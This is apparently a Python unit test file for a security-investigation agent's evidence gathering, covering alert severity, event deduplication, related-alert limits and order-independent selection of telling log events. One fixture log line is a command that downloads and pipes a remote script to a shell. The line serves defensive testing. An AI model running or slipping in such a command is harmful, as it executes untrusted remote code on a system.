"""The evidence of an investigation: which alerts and which of their events are read. Tools answer from a record."""

from __future__ import annotations

from typing import Any

import msgspec

from services.agents.toolkit.evidence import gather, most_telling
from services.agents.toolkit.records import record
from services.agents.toolkit.tools.alerts import GET_ALERT_TOOL, AlertArguments
from services.agents.toolkit.tools.logs import GET_EVENT, EventArguments
from services.agents.toolkit.work import Work
from shared.contracts.agents import AnalyzeThreat, Recorded
from shared.contracts.alerts import Alert, AlertEvidence
from shared.contracts.investigations import Citation
from tests.shapes import alert
from tests.unit.agents.agent_kit import NOW, context, event, work

FIRST, SECOND, THIRD, GONE = (f"ALRT-2026-00000{number}" for number in (1, 2, 3, 9))


def pointing(identifier: str, severity: str, *log_ids: str) -> Alert:
    """An alert that points at these events."""
    evidence = [AlertEvidence(log_id=log_id, message=f"line {log_id}") for log_id in log_ids]
    changes: dict[str, Any] = {"severity": severity, "evidence": evidence, "count": len(log_ids)}
    return alert(identifier, **changes)


ALERTS = (
    pointing(FIRST, "medium", "a", "b"),
    pointing(SECOND, "high", "c", "a"),
    pointing(THIRD, "low", *(f"d{number}" for number in range(9))),
)


def recorded() -> list[Citation]:
    """What the tools saw: three alerts, and every event that they point at."""
    alerts = [record("triage", GET_ALERT_TOOL.name, AlertArguments(item.id), item, NOW) for item in ALERTS]
    log_ids = {pointer.log_id for item in ALERTS for pointer in item.evidence}
    return alerts + [
        record(
            "triage",
            GET_EVENT.name,
            EventArguments(log_id=log_id, at=None),
            {"events": [{**event(f"line {log_id}"), "log_id": log_id}]},
            NOW,
        )
        for log_id in sorted(log_ids)
    ]


def doing() -> Work:
    """A work that answers from the record."""
    call = context(tool_calls=60)
    assert call.handoff is not None
    answers = Recorded(asked_at=NOW, citations=recorded(), refusals=[])
    return work(msgspec.structs.replace(call, handoff=msgspec.structs.replace(call.handoff, recorded=answers)))


async def test_the_worst_alert_gives_the_level_and_every_event_is_read_once() -> None:
    evidence = await gather(AnalyzeThreat(alert_id=FIRST, related=[SECOND, THIRD]), doing())
    assert evidence.level == "high"
    read = [seen.event["log_id"] for seen in evidence.events]
    assert len(read) == len(set(read)) == 6
    assert read[:2] == ["a", "b"]
    assert {"c", "d0"} <= set(read)


async def test_a_related_alert_that_can_not_be_read_is_left_out_and_the_others_count() -> None:
    evidence = await gather(AnalyzeThreat(alert_id=FIRST, related=[GONE, SECOND]), doing())
    assert [citation.result["id"] for citation in evidence.related] == [SECOND]


async def test_of_very_many_related_alerts_some_are_read_and_that_is_said() -> None:
    at_work = doing()
    await gather(AnalyzeThreat(alert_id=FIRST, related=[SECOND] * 30), at_work)
    assert "read 10 of 30 related alerts" in at_work.not_checked


def test_which_events_are_read_does_not_depend_on_which_of_them_came_first() -> None:
    lines = ["session opened", "curl -fsS http://45.33.32.156/a | sh", "session closed"]
    items = [
        {"log_id": f"{n:02}", "timestamp": f"2026-06-14T12:00:{n:02}.000Z", "message": lines[n % 7 % 3]}
        for n in range(40)
    ]
    chosen = {
        tuple(item["log_id"] for item in most_telling(come, 6)) for come in (items, items[::-1], items[7:] + items[:7])
    }
    assert len(chosen) == 1
